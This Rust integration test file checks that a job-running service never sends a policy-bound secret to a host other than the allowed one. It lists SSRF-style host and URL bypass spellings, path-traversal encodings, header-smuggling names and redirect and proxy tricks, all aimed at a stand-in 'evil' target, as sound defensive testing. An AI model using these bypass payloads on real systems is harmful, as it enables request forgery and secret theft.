//! Someone who may write jobs, and not see values, tries to get one out: the secret is bound to one host, and another one
//! waits for it. Nothing that is tried may bring the value anywhere but where its policy says.

use serde_json::{Value, json};

use crate::client::word;
use crate::home::{Engine, on_both_stores};
use crate::persons::Persons;
use crate::target::{Reply, Target};

on_both_stores!(
    no_spelling_of_a_host_leads_elsewhere,
    no_path_method_place_or_header_is_slipped_past,
    a_redirect_takes_nothing_along,
    a_proxy_setting_has_no_effect,
    another_environment_and_another_name_mean_another_secret,
    an_altered_policy_opens_nothing_and_is_kept_by_no_new_value,
    an_editor_changes_no_policy,
    whoever_edits_a_job_gets_none_of_its_owners_secrets,
);

const VALUE: &str = "the-value-that-is-bound-4711";

/// A person who writes jobs, the host that the secret may go to, and one that it may not.
struct Stage {
    persons: Persons,
    allowed: Target,
    evil: Target,
}

impl Stage {
    async fn new(engine: Engine) -> Self {
        let evil = Target::agreeable().await;
        Self::with(Persons::new(engine, "editor").await, evil).await
    }

    async fn with(persons: Persons, evil: Target) -> Self {
        let to_evil = evil.url("/v1/taken");
        let allowed = Target::new(move |seen| {
            if seen.path.contains("redirect") {
                let location = format!("Location: {to_evil}\r\n");
                Reply::response(302, &location, b"")
            } else {
                Reply::ok("fine")
            }
        })
        .await;
        let stage = Self {
            persons,
            allowed,
            evil,
        };
        stage.bind("BOUND").await;
        stage
    }

    fn policy(&self) -> Value {
        json!({
            "schemes": ["http"], "hosts": ["localhost"], "ports": [self.allowed.address.port()],
            "methods": ["GET", "POST"], "path_prefixes": ["/v1"], "places": ["header"]
        })
    }

    async fn bind(&self, name: &str) -> String {
        let server = &self.persons.server;
        let value = server.home.plant(name, VALUE);
        let secret = json!({"name": name, "value": value, "egress": self.policy()});
        server
            .client
            .post("/v1/secrets", &secret)
            .await
            .expect(201)
            .id()
    }

    fn url(&self, path: &str) -> String {
        format!("http://localhost:{}{path}", self.allowed.address.port())
    }

    /// What becomes of a request by the editor: `saved` when it is refused at once, else the code of its failure, or none.
    async fn attempt(&self, request: Value) -> Option<String> {
        self.attempt_job(json!({"name": "attack", "kind": "manual", "request": request}))
            .await
    }

    async fn attempt_job(&self, definition: Value) -> Option<String> {
        let editor = &self.persons.other;
        let made = editor.post("/v1/jobs", &definition).await;
        if made.status == 400 {
            return Some("save".to_owned());
        }
        let execution = editor.run(&made.expect(201).id()).await;
        assert_eq!(
            execution["attempt_count"], 1,
            "refusals are not retried: {execution}"
        );
        if execution["status"] == "succeeded" {
            return None;
        }
        let error = &execution["attempts"][0]["error"];
        Some(word(error, "code").to_owned())
    }

    /// Tries each, and expects it to be refused when it is saved or by the policy.
    async fn refused(&self, requests: impl IntoIterator<Item = Value>) {
        for request in requests {
            let end = self.attempt(request.clone()).await;
            let refused = matches!(end.as_deref(), Some("save" | "egress_refused"));
            assert!(refused, "{request}: {end:?}");
        }
    }

    /// The value was sent to nobody else, and to its own host only as its policy says.
    fn nothing_got_out(&self) {
        for seen in self.evil.seen() {
            let all = format!("{seen:?}{}", seen.text());
            assert!(!all.contains("that-is-bound"), "{all}");
        }
        for seen in self.allowed.seen() {
            let path = seen.path.split('?').next().unwrap();
            assert!(path.starts_with("/v1") && !path.contains(".."), "{seen:?}");
            assert!(
                !seen.path.contains("that-is-bound") && seen.body.is_empty(),
                "{seen:?}"
            );
            let host = format!("localhost:{}", self.allowed.address.port());
            assert_eq!(seen.header("host"), host);
        }
    }
}

fn get(url: &str) -> Value {
    json!({"url": url, "headers": {"X-Key": "{{secret.BOUND}}"}})
}

async fn no_spelling_of_a_host_leads_elsewhere(engine: Engine) {
    let stage = Stage::new(engine).await;
    let (port, evil) = (stage.allowed.address.port(), stage.evil.address.port());
    let hosts = [
        "localhost.evil.test",
        "evil-localhost",
        "xlocalhost",
        "sub.localhost",
        "localhost.localhost",
        "local.host",
        "l\u{f3}calhost",
        "localhost\u{2024}evil.test",
        "localhost\u{3002}evil.test",
        "127.0.0.1",
        "127.1",
        "2130706433",
        "017700000001",
        "0x7f000001",
        "0x7f.1",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[0:0:0:0:0:0:0:1]",
        "localhost%2eevil.test",
        "localhost%00.evil.test",
        "xn--lcalhost-n2a",
    ];
    stage
        .refused(hosts.map(|host| get(&format!("http://{host}:{port}/v1/x"))))
        .await;
    let urls = [
        format!("http://localhost:{evil}/v1/x"),
        format!("http://127.0.0.1:{evil}/v1/x"),
        format!("https://localhost:{port}/v1/x"),
        format!("http://localhost@127.0.0.1:{evil}/v1/x"),
        format!("http://localhost:{port}@127.0.0.1:{evil}/v1/x"),
        format!("http://localhost:{port}%40127.0.0.1:{evil}/v1/x"),
        format!("http://127.0.0.1:{evil}\\@localhost:{port}/v1/x"),
        format!("http:\\\\localhost:{port}/v1/x"),
        format!("http://127.0.0.1:{evil}#@localhost:{port}/v1/x"),
        format!("http://127.0.0.1:{evil}?@localhost:{port}/v1/x"),
        format!("http://localhost:{port}\t.evil.test/v1/x"),
        format!("http://loc\nalhost:{port}/v1/x"),
        format!("http:////127.0.0.1:{evil}/v1/x"),
        format!("http:127.0.0.1:{evil}/v1/x"),
        format!("//localhost:{port}/v1/x"),
        format!(" http://localhost:{port}/v1/x"),
        format!("ftp://localhost:{port}/v1/x"),
        format!("http://localhost:0{port}0/v1/x"),
        format!("http://{{{{secret.BOUND}}}}:{port}/v1/x"),
        format!("http://localhost:{port}{{{{secret.BOUND}}}}.evil.test/v1/x"),
    ];
    stage.refused(urls.iter().map(|url| get(url))).await;
    // By the job's own variables, which the address is rendered with before it is checked.
    for host in [
        format!("127.0.0.1:{evil}"),
        format!("localhost:{evil}"),
        format!("localhost:{port}@127.0.0.1:{evil}"),
    ] {
        let job = json!({
            "name": "env", "kind": "manual", "env": {"HOST": host},
            "request": get("http://{{env.HOST}}/v1/x")
        });
        let end = stage.attempt_job(job).await;
        let refused = matches!(
            end.as_deref(),
            Some("save" | "egress_refused" | "url_origin" | "invalid_url")
        );
        assert!(refused, "{host}: {end:?}");
    }
    // These are the host itself, written otherwise: the value arrives there, and there alone.
    let same = [
        "LOCALHOST",
        "localhost.",
        "\u{ff4c}ocalhost",
        "\u{24db}ocalhost",
        "local\u{ad}host",
        "%6cocalhost",
    ];
    for host in same {
        let url = format!("http://{host}:{port}/v1/same");
        let end = stage.attempt(get(&url)).await;
        assert!(
            matches!(end.as_deref(), None | Some("save")),
            "{host}: {end:?}"
        );
    }
    let arrived = stage.allowed.seen();
    assert!(
        arrived.iter().all(|seen| seen.header("x-key") == VALUE),
        "{arrived:?}"
    );
    assert!(!arrived.is_empty() && stage.evil.seen().is_empty());
    stage.nothing_got_out();
}

async fn no_path_method_place_or_header_is_slipped_past(engine: Engine) {
    let stage = Stage::new(engine).await;
    let paths = [
        "/",
        "/admin",
        "/v1x",
        "/V1/x",
        "//v1/x",
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1/%2E%2E%2Fadmin",
        "/v1/%252e%252e/admin",
        "/v1/..;/admin",
        "/v1/..%5cadmin",
        "/v1/.%2e/admin",
        "/v1/..%20/admin",
        "/v1/%c0%ae%c0%ae/admin",
        "/v1%2f..%2fadmin",
        "/v1;x/../admin",
        "/admin?/v1",
        "/admin#/v1",
    ];
    stage.refused(paths.map(|path| get(&stage.url(path)))).await;
    // A secret of the attacker's own brings the way out into the path: it is seen once it is rendered.
    let way_out = json!({"name": "WAY-OUT", "value": "../../admin"});
    let made = stage.persons.other.post("/v1/secrets", &way_out).await;
    made.expect(201);
    stage
        .refused([get(&stage.url("/v1/{{secret.WAY-OUT}}/x"))])
        .await;
    for method in ["DELETE", "PUT", "PATCH", "OPTIONS", "delete"] {
        let mut request = get(&stage.url("/v1/x"));
        request["method"] = json!(method);
        stage.refused([request]).await;
    }
    let places = [
        json!({"url": stage.url("/v1/{{secret.BOUND}}")}),
        json!({"url": stage.url("/v1/x?k={{secret.BOUND}}")}),
        json!({"url": stage.url("/v1/x"), "query": {"k": "{{secret.BOUND | base64}}"}}),
        json!({"url": stage.url("/v1/x"), "method": "POST", "body": {"k": "{{secret.BOUND}}"}}),
        json!({"url": stage.url("/v1/x"), "method": "POST", "body": {"k": "{{secret.BOUND | sha256}}"}}),
        json!({"url": stage.url("/v1/x"), "auth": {"bearer": {"token": "{{secret.BOUND}}"}}}),
        json!({"url": stage.url("/v1/x"), "method": "POST", "body": {"k": "{{secret.WAY-OUT | hmac_sha256(secret.BOUND)}}"}}),
        json!({"url": stage.url("/v1/x"), "headers": {"{{secret.BOUND}}": "x"}}),
    ];
    stage.refused(places).await;
    let headers = [
        "Host",
        "host",
        ":authority",
        "X-Forwarded-Host",
        "x-original-host",
        "Forwarded",
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-HTTP-Method-Override",
        "X-Method-Override",
        "Connection",
        "Upgrade",
        "Transfer-Encoding",
        "Proxy-Authorization",
    ];
    let with_header = |name: &str| {
        let mut request = get(&stage.url("/v1/x"));
        request["headers"][name] = json!("evil.test");
        request
    };
    stage.refused(headers.map(with_header)).await;
    assert_eq!(
        (stage.allowed.seen().len(), stage.evil.seen().len()),
        (0, 0)
    );
    assert_eq!(stage.attempt(get(&stage.url("/v1/x;y=1/z"))).await, None);
    stage.nothing_got_out();
    // What was refused is recorded with what it was about.
    let told = stage
        .persons
        .server
        .home
        .sql("SELECT detail FROM audit WHERE action = 'secret.refused' ORDER BY seq DESC LIMIT 1")
        .await;
    let told: Value = serde_json::from_str(&told[0]).unwrap();
    assert_eq!(
        (word(&told, "host"), word(&told["secrets"][0], "name")),
        ("localhost", "BOUND")
    );
    assert!(word(&told, "job").starts_with("cj_"), "{told}");
}

async fn a_redirect_takes_nothing_along(engine: Engine) {
    let stage = Stage::new(engine).await;
    let follow = |url: &str| {
        let mut request = get(url);
        request["follow_redirects"] = json!(true);
        request
    };
    assert_eq!(
        stage.attempt(follow(&stage.url("/v1/redirect"))).await,
        None
    );
    let taken = stage.evil.seen();
    assert_eq!(taken.len(), 1, "the redirect is followed");
    assert_eq!(taken[0].header("x-key"), "", "without the secret");
    // Redirects are not followed unless a job says so.
    let end = stage.attempt(get(&stage.url("/v1/redirect"))).await;
    assert_eq!(
        (end.as_deref(), stage.evil.seen().len()),
        (Some("status"), 1)
    );
    stage.nothing_got_out();
}

async fn a_proxy_setting_has_no_effect(engine: Engine) {
    let evil = Target::agreeable().await;
    let proxy = evil.url("");
    let persons = Persons::launched(engine, "editor", |launch| {
        [
            "HTTP_PROXY",
            "http_proxy",
            "HTTPS_PROXY",
            "https_proxy",
            "ALL_PROXY",
            "all_proxy",
        ]
        .into_iter()
        .fold(launch, |launch, name| launch.env(name, &proxy))
    })
    .await;
    let stage = Stage::with(persons, evil).await;
    assert_eq!(stage.attempt(get(&stage.url("/v1/x"))).await, None);
    assert_eq!(
        (stage.allowed.seen().len(), stage.evil.seen().len()),
        (1, 0)
    );
    stage.nothing_got_out();
}

async fn another_environment_and_another_name_mean_another_secret(engine: Engine) {
    let stage = Stage::new(engine).await;
    let server = &stage.persons.server;
    let only = json!({"name": "PROD", "value": VALUE, "environment": "production", "egress": stage.policy()});
    server.client.post("/v1/secrets", &only).await.expect(201);
    let request = |name: &str| json!({"url": stage.evil.url("/v1/x"), "headers": {"X-Key": format!("{{{{secret.{name}}}}}")}});
    let staging = json!({"name": "staging", "kind": "manual", "environment": "staging", "request": request("PROD")});
    assert_eq!(
        stage.attempt_job(staging).await.as_deref(),
        Some("secret_unresolved")
    );
    for name in ["bound", "BOUND.", "BOUND2", "workspace.BOUND"] {
        let end = stage.attempt(request(name)).await;
        assert!(
            matches!(
                end.as_deref(),
                Some("secret_unresolved" | "save" | "egress_refused")
            ),
            "{name}: {end:?}"
        );
    }
    // An unbound secret of the attacker's own beside it changes nothing for the bound one.
    let own = json!({"name": "BOUND", "value": "of-the-editors-own", "scope": "user"});
    stage
        .persons
        .other
        .post("/v1/secrets", &own)
        .await
        .expect(201);
    let end = stage.attempt(request("BOUND")).await;
    assert_eq!(end, None);
    assert_eq!(stage.evil.seen()[0].header("x-key"), "of-the-editors-own");
    stage.nothing_got_out();
}

async fn an_altered_policy_opens_nothing_and_is_kept_by_no_new_value(engine: Engine) {
    let stage = Stage::new(engine).await;
    let server = &stage.persons.server;
    let id = stage.bind("ALTERED").await;
    for altered in [
        "NULL".to_owned(),
        "'{\"hosts\":[\"127.0.0.1\"],\"schemes\":[\"http\"]}'".to_owned(),
    ] {
        server
            .home
            .sql(&format!("UPDATE secrets SET egress = {altered} WHERE name = 'ALTERED'; UPDATE workspaces SET secrets_revision = secrets_revision + 1"))
            .await;
        let request =
            json!({"url": stage.evil.url("/v1/x"), "headers": {"X-Key": "{{secret.ALTERED}}"}});
        assert_eq!(
            stage.attempt(request).await.as_deref(),
            Some("secret_unreadable")
        );
        let value = json!({"value": "a-new-value-for-it"});
        let kept = server
            .client
            .put(&format!("/v1/secrets/{id}"), &value)
            .await;
        kept.refused(409, "conflict", Some(("egress", "secret_unreadable")));
    }
    let bound = json!({"value": VALUE, "egress": stage.policy()});
    server
        .client
        .put(&format!("/v1/secrets/{id}"), &bound)
        .await
        .expect(200);
    assert!(stage.evil.seen().is_empty());
    stage.nothing_got_out();
}

async fn an_editor_changes_no_policy(engine: Engine) {
    let stage = Stage::new(engine).await;
    let (editor, owner) = (&stage.persons.other, &stage.persons.server.client);
    let id = stage.bind("FAST").await;
    let path = format!("/v1/secrets/{id}");
    let wider = json!({"hosts": ["localhost", "127.0.0.1"], "schemes": ["http"]});
    for egress in [Value::Null, wider.clone()] {
        let with_value = json!({"value": "a-value-of-the-editor", "egress": egress});
        editor
            .put(&path, &with_value)
            .await
            .refused(403, "forbidden", None);
        editor
            .patch(&path, &json!({"egress": egress}))
            .await
            .refused(403, "forbidden", None);
        let asked = editor
            .post(&format!("{path}/policy"), &json!({"egress": egress}))
            .await;
        asked.refused(403, "forbidden", None);
    }
    // The same policy, in other words, is no change.
    let mut same = stage.policy();
    same["hosts"] = json!(["LOCALHOST"]);
    editor
        .put(&path, &json!({"value": VALUE, "egress": same}))
        .await
        .expect(200);
    // What an admin asks for, the editor does not approve, and neither does the admin.
    let asked = owner
        .patch(&path, &json!({"egress": wider}))
        .await
        .expect(202);
    assert!(asked.header("location").starts_with("/v1/approvals/apr_"));
    let approve = format!("/v1/approvals/{}/approve", asked.id());
    for client in [editor, owner] {
        client
            .call("POST", &approve)
            .send()
            .await
            .refused(403, "forbidden", None);
    }
    editor
        .get("/v1/approvals")
        .await
        .refused(403, "forbidden", None);
    let to_evil = json!({"url": stage.evil.url("/v1/x"), "headers": {"X-Key": "{{secret.FAST}}"}});
    assert_eq!(
        stage.attempt(to_evil.clone()).await.as_deref(),
        Some("egress_refused")
    );
    // A second admin does, and then the value goes where it was allowed to.
    stage.persons.role("admin").await;
    let done = editor
        .call("POST", &approve)
        .send()
        .await
        .expect(200)
        .json();
    assert_eq!(done["state"], "approved");
    editor
        .call("POST", &approve)
        .send()
        .await
        .refused(409, "conflict", None);
    assert_eq!(owner.get(&path).await.expect(200).json()["egress"], wider);
    assert_eq!(stage.attempt(to_evil).await, None);
    assert_eq!(stage.evil.seen()[0].header("x-key"), VALUE);
    owner
        .call("POST", &format!("{path}/rollback"))
        .send()
        .await
        .refused(409, "conflict", None);
}

async fn whoever_edits_a_job_gets_none_of_its_owners_secrets(engine: Engine) {
    let stage = Stage::new(engine).await;
    let (editor, owner) = (&stage.persons.other, &stage.persons.server.client);
    let own = json!({"name": "OWN", "value": stage.persons.server.home.plant("OWN", "the-owners-own-value-99"), "scope": "user"});
    owner.post("/v1/secrets", &own).await.expect(201);
    let request =
        json!({"url": stage.allowed.url("/v1/x"), "headers": {"X-Key": "{{secret.OWN}}"}});
    let job = owner.manual("mine", request).await;
    // Started by another, it is still the owner's.
    let execution = editor.run(&job).await;
    assert_eq!(execution["status"], "succeeded");
    let described = json!({"description": "words", "tags": ["a"]});
    editor
        .patch(&format!("/v1/jobs/{job}"), &described)
        .await
        .expect(200);
    assert_eq!(editor.run(&job).await["status"], "succeeded");
    let elsewhere = json!({"request": {"url": stage.evil.url("/v1/x")}});
    editor
        .patch(&format!("/v1/jobs/{job}"), &elsewhere)
        .await
        .expect(200);
    let execution = owner.run(&job).await;
    assert_eq!(
        word(&execution["attempts"][0]["error"], "code"),
        "secret_unresolved"
    );
    assert!(stage.evil.seen().is_empty());
    // Nor does the owner's next edit lend what the editor has written the owner's own secrets: a job of several is nobody's.
    let said = json!({"name": "seen by its owner"});
    owner
        .patch(&format!("/v1/jobs/{job}"), &said)
        .await
        .expect(200);
    assert_eq!(owner.run(&job).await["status"], "failed");
    let bait = json!({"url": stage.evil.url("/v1/x"), "headers": {"X-Key": "{{secret.OWN}}"}});
    let job = editor.manual("bait", bait).await;
    owner
        .patch(&format!("/v1/jobs/{job}"), &said)
        .await
        .expect(200);
    assert_eq!(editor.run(&job).await["status"], "failed");
    assert!(stage.evil.seen().is_empty());
}
